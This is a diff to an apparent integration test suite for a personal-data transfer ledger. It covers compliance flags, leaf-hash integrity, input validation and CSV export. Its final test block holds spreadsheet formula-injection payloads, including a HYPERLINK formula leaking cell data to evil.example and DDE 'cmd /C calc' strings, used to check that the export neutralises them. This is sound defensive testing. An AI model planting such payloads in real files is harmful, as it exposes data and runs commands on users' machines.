@@ -1,10 +1,17 @@
+import { ingestionTestHooks } from '../../src/transfers/transfers.service';
 import { bearer, createOrganisation, startTestApp, TestApp } from '../support/app';
 import { fileContract, Parties, setupParties } from '../contracts/fixtures';
 import { postTransfers, transferRecord, treeSize } from './support';
 
+/**
+ * Rows of the log. `leaves` counts the rows whose stored leaf hash is SHA-256(0x00 ‖ leaf) of their
+ * stored leaf bytes (RFC 9162 §2.1), so `leaves === records` checks every row's leaf and hash agree.
+ */
 async function rowCounts(t: TestApp): Promise<{ leaves: number; records: number; nodes: number }> {
   const [row] = await t.dataSource.query(
-    `SELECT (SELECT count(*) FROM transfer_records WHERE leaf IS NOT NULL)::int AS leaves, (SELECT count(*) FROM transfer_records)::int AS records, (SELECT count(*) FROM ledger_nodes)::int AS nodes`,
+    `SELECT (SELECT count(*) FROM transfer_records WHERE leaf_hash = sha256('\\x00'::bytea || leaf))::int AS leaves,
+            (SELECT count(*) FROM transfer_records)::int AS records,
+            (SELECT count(*) FROM ledger_nodes)::int AS nodes`,
   );
   return row;
 }
@@ -59,30 +66,43 @@ describe('POST /transfers', () => {
   });
 
   describe('compliance flags: well-formed records that break the contract are appended, flagged', () => {
-    const cases: Array<[string, Record<string, unknown>]> = [
-      ['CONTRACT_NOT_EFFECTIVE', { occurredAt: '2025-01-20T03:00:00Z' }],
-      ['CONTRACT_EXPIRED', { occurredAt: '2027-02-01T03:00:00Z' }],
-      ['AFTER_RETENTION_PERIOD', { occurredAt: '2030-02-01T03:00:00Z' }],
-      ['DIRECTION_MISMATCH', { direction: 'HK_TO_MAINLAND' }],
-      ['CATEGORY_NOT_IN_SCOPE', { personalInformationCategories: ['BASIC_PROFILE', 'LOCATION'] }],
-      ['SENSITIVE_NOT_IN_SCOPE', { sensitiveCategories: ['MEDICAL_HEALTH'] }],
-      ['SENSITIVE_WITHOUT_SEPARATE_CONSENT', { sensitiveCategories: ['FINANCIAL_ACCOUNT'], separateConsentObtained: false }],
-      ['PURPOSE_NOT_IN_SCOPE', { purposes: ['marketing'] }],
-      ['METHOD_NOT_IN_SCOPE', { transferMethod: 'USB stick by courier' }],
-      ['ONWARD_RECIPIENT_OUTSIDE_GBA', { onwardRecipient: { name: 'Bay Credit Reference Centre', city: 'BEIJING' } }],
-      ['ONWARD_RECIPIENT_NOT_IN_ANNEX', { onwardRecipient: { name: 'Someone Else Ltd', city: 'GUANGZHOU' } }],
-      ['FILING_OVERDUE', { occurredAt: '2025-03-03T03:00:00Z' }],
-      ['PIPIA_MISSING', { occurredAt: '2025-01-05T03:00:00Z' }],
+    // [the flag the case is about, the record's overrides, every flag the record must get: no more, no fewer]
+    const cases: Array<[string, Record<string, unknown>, string[]]> = [
+      ['CONTRACT_NOT_EFFECTIVE', { occurredAt: '2025-01-20T03:00:00Z' }, ['CONTRACT_NOT_EFFECTIVE']],
+      // Past expiry the filings (never submitted here) are overdue too.
+      ['CONTRACT_EXPIRED', { occurredAt: '2027-02-01T03:00:00Z' }, ['CONTRACT_EXPIRED', 'FILING_OVERDUE']],
+      ['AFTER_RETENTION_PERIOD', { occurredAt: '2030-02-01T03:00:00Z' }, ['AFTER_RETENTION_PERIOD', 'CONTRACT_EXPIRED', 'FILING_OVERDUE']],
+      ['DIRECTION_MISMATCH', { direction: 'HK_TO_MAINLAND' }, ['DIRECTION_MISMATCH']],
+      ['CATEGORY_NOT_IN_SCOPE', { personalInformationCategories: ['BASIC_PROFILE', 'LOCATION'] }, ['CATEGORY_NOT_IN_SCOPE']],
+      // MEDICAL_HEALTH is outside the annex, and consent was obtained.
+      ['SENSITIVE_NOT_IN_SCOPE', { sensitiveCategories: ['MEDICAL_HEALTH'] }, ['SENSITIVE_NOT_IN_SCOPE']],
+      // FINANCIAL_ACCOUNT is in the annex: only the missing consent is flagged.
+      ['SENSITIVE_WITHOUT_SEPARATE_CONSENT', { sensitiveCategories: ['FINANCIAL_ACCOUNT'], separateConsentObtained: false }, ['SENSITIVE_WITHOUT_SEPARATE_CONSENT']],
+      ['PURPOSE_NOT_IN_SCOPE', { purposes: ['marketing'] }, ['PURPOSE_NOT_IN_SCOPE']],
+      ['METHOD_NOT_IN_SCOPE', { transferMethod: 'USB stick by courier' }, ['METHOD_NOT_IN_SCOPE']],
+      // The annex lists this recipient in GUANGZHOU, so in BEIJING it is also not the annex's recipient.
+      [
+        'ONWARD_RECIPIENT_OUTSIDE_GBA',
+        { onwardRecipient: { name: 'Bay Credit Reference Centre', city: 'BEIJING' } },
+        ['ONWARD_RECIPIENT_NOT_IN_ANNEX', 'ONWARD_RECIPIENT_OUTSIDE_GBA'],
+      ],
+      ['ONWARD_RECIPIENT_NOT_IN_ANNEX', { onwardRecipient: { name: 'Someone Else Ltd', city: 'GUANGZHOU' } }, ['ONWARD_RECIPIENT_NOT_IN_ANNEX']],
+      ['FILING_OVERDUE', { occurredAt: '2025-03-03T03:00:00Z' }, ['FILING_OVERDUE']],
+      // Before the PIPIA (2025-01-10) is also before the contract took effect (2025-01-24).
+      ['PIPIA_MISSING', { occurredAt: '2025-01-05T03:00:00Z' }, ['CONTRACT_NOT_EFFECTIVE', 'PIPIA_MISSING']],
     ];
-    it.each(cases)('%s', async (flag, overrides) => {
+    it.each(cases)('%s', async (flag, overrides, expected) => {
+      expect(expected).toContain(flag);
       const before = await rowCounts(t);
       const res = await postTransfers(t, p.mainland, [transferRecord(contractId, overrides)]);
       expect(res.status).toBe(201);
-      expect(res.body.records[0].flags).toContain(flag);
+      expect(res.body.records[0].flags).toEqual(expected);
       const after = await rowCounts(t);
       expect(after.records).toBe(before.records + 1);
-      const [stored] = await t.dataSource.query('SELECT flags FROM transfer_records WHERE leaf_index = $1', [res.body.records[0].leafIndex]);
-      expect(stored.flags).toEqual(res.body.records[0].flags);
+      expect(after.leaves).toBe(after.records);
+      const [stored] = await t.dataSource.query('SELECT flags, leaf FROM transfer_records WHERE leaf_index = $1', [res.body.records[0].leafIndex]);
+      expect(stored.flags).toEqual(expected);
+      expect(JSON.parse(stored.leaf.toString('utf8')).flags).toEqual(expected);
     });
 
     it('a clean record in an onward recipient the annex lists has none', async () => {
@@ -94,11 +114,41 @@ describe('POST /transfers', () => {
       const other = (await fileContract(t, p)).id;
       const record = () => transferRecord(other, { occurredAt: '2025-01-27T03:00:00Z' });
       const before = await postTransfers(t, p.mainland, [record()]);
-      expect(before.body.records[0].flags).not.toContain('CONTRACT_TERMINATED');
+      expect(before.body.records[0].flags).toEqual([]);
       const terminated = await t.http.post(`/contracts/${other}/terminate`).set(...bearer(p.mainland)).send({ terminatedOn: '2025-01-26', reason: 'business ended' });
       expect([200, 201]).toContain(terminated.status);
       const after = await postTransfers(t, p.mainland, [record()]);
-      expect(after.body.records[0].flags).toContain('CONTRACT_TERMINATED');
+      expect(after.body.records[0].flags).toEqual(['CONTRACT_TERMINATED']);
+    });
+
+    it('CONTRACT_TERMINATED when the termination commits after the batch was prepared, before it is appended', async () => {
+      const other = (await fileContract(t, p)).id;
+      const record = () => transferRecord(other, { occurredAt: '2025-01-27T03:00:00Z' });
+      // The scope of `other` is cached at its current revision.
+      expect((await postTransfers(t, p.mainland, [record()])).body.records[0].flags).toEqual([]);
+      let terminatedStatus = 0;
+      // Flags and leaves are prepared from the cached scope; the termination commits (another connection) before the transaction opens.
+      ingestionTestHooks.beforeTransaction = async () => {
+        ingestionTestHooks.beforeTransaction = undefined;
+        const terminated = await t.http.post(`/contracts/${other}/terminate`).set(...bearer(p.hongKong)).send({ terminatedOn: '2025-01-26', reason: 'business ended' });
+        terminatedStatus = terminated.status;
+      };
+      try {
+        const res = await postTransfers(t, p.mainland, [record(), transferRecord(contractId), transferRecord(other, { occurredAt: '2025-01-25T03:00:00Z' })]);
+        expect([200, 201]).toContain(terminatedStatus);
+        expect(res.status).toBe(201);
+        // Only the record on or after the termination date, of the terminated contract, is flagged.
+        expect(res.body.records.map((r: { flags: string[] }) => r.flags)).toEqual([['CONTRACT_TERMINATED'], [], []]);
+        const first = res.body.records[0].leafIndex;
+        const stored = await t.dataSource.query('SELECT flags, leaf FROM transfer_records WHERE leaf_index >= $1 AND leaf_index < $2 ORDER BY leaf_index', [first, first + 3]);
+        expect(stored.map((r: { flags: string[] }) => r.flags)).toEqual([['CONTRACT_TERMINATED'], [], []]);
+        // The signed leaf carries the flags too, and its hash matches it.
+        expect(stored.map((r: { leaf: Buffer }) => JSON.parse(r.leaf.toString('utf8')).flags)).toEqual([['CONTRACT_TERMINATED'], [], []]);
+        const counts = await rowCounts(t);
+        expect(counts.leaves).toBe(counts.records);
+      } finally {
+        ingestionTestHooks.beforeTransaction = undefined;
+      }
     });
   });
 
@@ -163,6 +213,50 @@ describe('POST /transfers', () => {
       const local = await postTransfers(t, p.mainland, [transferRecord(contractId, { occurredAt: '2025-01-25T03:00:00' })]);
       expect(local.status).toBe(400);
       expect(local.body.errors[0].field).toBe('records[0].occurredAt');
+    });
+
+    it('400 naming records[i].occurredAt for an instant outside years 0001–9999 (PostgreSQL has no year 0)', async () => {
+      const before = await rowCounts(t);
+      for (const occurredAt of ['0001-01-01T00:00:00+08:00', '0000-01-01T00:00:00Z', '9999-12-31T23:00:00-08:00']) {
+        const res = await postTransfers(t, p.mainland, [transferRecord(contractId), transferRecord(contractId, { occurredAt })]);
+        expect(res.status).toBe(400);
+        expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
+        expect(res.body.errors).toEqual([expect.objectContaining({ field: 'records[1].occurredAt', rule: 'instantRange' })]);
+      }
+      expect(await rowCounts(t)).toEqual(before);
+    });
+
+    it('400 naming the field for an unpaired surrogate in any free-text field', async () => {
+      const before = await rowCounts(t);
+      const cases: Array<[string, Record<string, unknown>]> = [
+        ['records[0].transferMethod', { transferMethod: 'encrypted \uD800 API' }],
+        ['records[0].purposes', { purposes: ['credit assessment', 'x\uDC00'] }],
+        ['records[0].externalReference', { externalReference: 'ref-\uD83D' }],
+        ['records[0].onwardRecipient.name', { onwardRecipient: { name: '\uDE00Bay Credit Reference Centre', city: 'GUANGZHOU' } }],
+      ];
+      for (const [field, overrides] of cases) {
+        const res = await postTransfers(t, p.mainland, [transferRecord(contractId, overrides)]);
+        expect(res.status).toBe(400);
+        expect(res.body.errors).toEqual([expect.objectContaining({ field, rule: 'isCleanText' })]);
+      }
+      expect(await rowCounts(t)).toEqual(before);
+    });
+
+    it('400 naming the field for a NUL character in any free-text field (refused before validation; the parser refuses it too)', async () => {
+      const before = await rowCounts(t);
+      const cases: Array<[string, Record<string, unknown>]> = [
+        ['records[0].transferMethod', { transferMethod: 'a\u0000b' }],
+        ['records[0].purposes[1]', { purposes: ['credit assessment', '\u0000'] }],
+        ['records[0].externalReference', { externalReference: 'ref\u0000' }],
+        ['records[0].onwardRecipient.name', { onwardRecipient: { name: 'Bay\u0000', city: 'GUANGZHOU' } }],
+      ];
+      for (const [field, overrides] of cases) {
+        const res = await postTransfers(t, p.mainland, [transferRecord(contractId, overrides)]);
+        expect(res.status).toBe(400);
+        expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
+        expect(res.body.errors.map((e: { field: string }) => e.field)).toEqual([field]);
+      }
+      expect(await rowCounts(t)).toEqual(before);
     });
 
     it('404 for the whole request when one contract is not the caller’s, or unknown', async () => {
@@ -309,6 +403,27 @@ describe('GET /transfers, export and summary', () => {
     expect((await t.http.get('/transfers?flagged=yes').set(...bearer(p.hkDpo))).status).toBe(400);
   });
 
+  it('from/to: RFC 3339 instants with an offset and YYYY-MM-DD dates (00:00 in the GBA)', async () => {
+    expect(await pageAll(p.hkDpo, `from=2025-01-25T09:00:00%2B08:00&to=2025-01-25T10:00:00.000%2B08:00`)).toHaveLength(60);
+    // Every record is on 2025-01-25 in the GBA (08:00 to 11:49, UTC+8).
+    expect(await pageAll(p.hkDpo, `from=2025-01-25&to=2025-01-26&organisationId=${p.mainlandId}`)).toHaveLength(N);
+    expect(await pageAll(p.hkDpo, `to=2025-01-25&organisationId=${p.mainlandId}`)).toHaveLength(0);
+  });
+
+  it('400 problem+json naming from or to for anything else, in the list and both exports (PostgreSQL refused some: 500s)', async () => {
+    const bad = ['2025', '2025-01', '2025-W01', '2025-W01-1', '2025-032', '2025-01-01T10', '2025-01-01T10:00', '2025-01-01T10:00:00', '2025-02-30', '0000-01-01', '20250101'];
+    for (const value of bad) {
+      for (const field of ['from', 'to']) {
+        for (const path of ['/transfers?', '/transfers/export?format=ndjson&', '/transfers/export?format=csv&']) {
+          const res = await t.http.get(`${path}${field}=${encodeURIComponent(value)}`).set(...bearer(p.hkDpo));
+          expect({ value, field, path, status: res.status }).toEqual({ value, field, path, status: 400 });
+          expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
+          expect(res.body.errors.map((e: { field: string }) => e.field)).toEqual([field]);
+        }
+      }
+    }
+  });
+
   it('parties see their own transfers only', async () => {
     expect(await pageAll(p.hongKong, 'direction=MAINLAND_TO_HK')).toHaveLength(N);
     expect(await pageAll(p.outsider, 'direction=MAINLAND_TO_HK')).toHaveLength(0);
@@ -354,5 +469,88 @@ describe('GET /transfers, export and summary', () => {
       lastTransfer: { occurredAt: new Date(Date.UTC(2025, 0, 25, 0, N - 2)).toISOString() },
     });
     expect((await t.http.get(`/transfers/summary?contractId=${contractA}`).set(...bearer(p.outsider))).status).toBe(404);
+  });
+});
+
+/** RFC 4180 CSV into rows of cells (quoted cells may hold commas, quotes doubled, CR and LF). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+    } else cell += c;
+  }
+  if (cell !== '' || row.length) rows.push([...row, cell]);
+  return rows;
+}
+
+describe('GET /transfers/export?format=csv: spreadsheet formula injection (OWASP)', () => {
+  let t: TestApp;
+  let p: Parties;
+  let contractId: string;
+  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+
+  beforeAll(async () => {
+    t = await startTestApp();
+    p = await setupParties(t);
+    contractId = (await fileContract(t, p)).id;
+    const records = hostile.map((text, i) =>
+      transferRecord(contractId, {
+        occurredAt: new Date(Date.UTC(2025, 0, 25, 0, i)).toISOString(),
+        externalReference: text,
+        transferMethod: text,
+        purposes: [text],
+        onwardRecipient: { name: text, city: 'GUANGZHOU' },
+      }),
+    );
+    records.push(transferRecord(contractId, { externalReference: 'plain, "quoted"\nnext line', occurredAt: '2025-01-25T01:00:00Z' }));
+    expect((await postTransfers(t, p.mainland, records)).status).toBe(201);
+  });
+  afterAll(async () => t?.close());
+
+  it('prefixes a cell of organisation text starting with =, +, -, @, tab or CR with a single quote', async () => {
+    const res = await t.http.get(`/transfers/export?format=csv&contractId=${contractId}`).set(...bearer(p.gdCac)).buffer(true);
+    expect(res.status).toBe(200);
+    const [header, ...rows] = parseCsv(res.text);
+    const col = (name: string) => header.indexOf(name);
+    expect(rows).toHaveLength(hostile.length + 1);
+    hostile.forEach((text, i) => {
+      const row = rows[i];
+      expect(row[col('externalReference')]).toBe(`'${text}`);
+      expect(row[col('transferMethod')]).toBe(`'${text}`);
+      expect(row[col('onwardRecipientName')]).toBe(`'${text}`);
+      // purposes is a JSON array: it starts with '[', and the exact text is inside it.
+      expect(JSON.parse(row[col('purposes')])).toEqual([text]);
+    });
+    // Ordinary text is unchanged; commas, quotes and newlines are quoted (RFC 4180).
+    expect(rows[hostile.length][col('externalReference')]).toBe('plain, "quoted"\nnext line');
+    expect(rows[hostile.length][col('transferMethod')]).toBe('encrypted API over dedicated line');
+    // No cell of the export starts with a formula character.
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('keeps the exact text in the ndjson export and the leaves', async () => {
+    const res = await t.http.get(`/transfers/export?format=ndjson&contractId=${contractId}`).set(...bearer(p.gdCac));
+    expect(res.status).toBe(200);
+    const rows = res.text.trimEnd().split('\n').map((l) => JSON.parse(l));
+    expect(rows.slice(0, hostile.length).map((r) => r.externalReference)).toEqual(hostile);
+    expect(rows.slice(0, hostile.length).map((r) => JSON.parse(Buffer.from(r.leaf, 'base64').toString('utf8')).transferMethod)).toEqual(hostile);
   });
 });
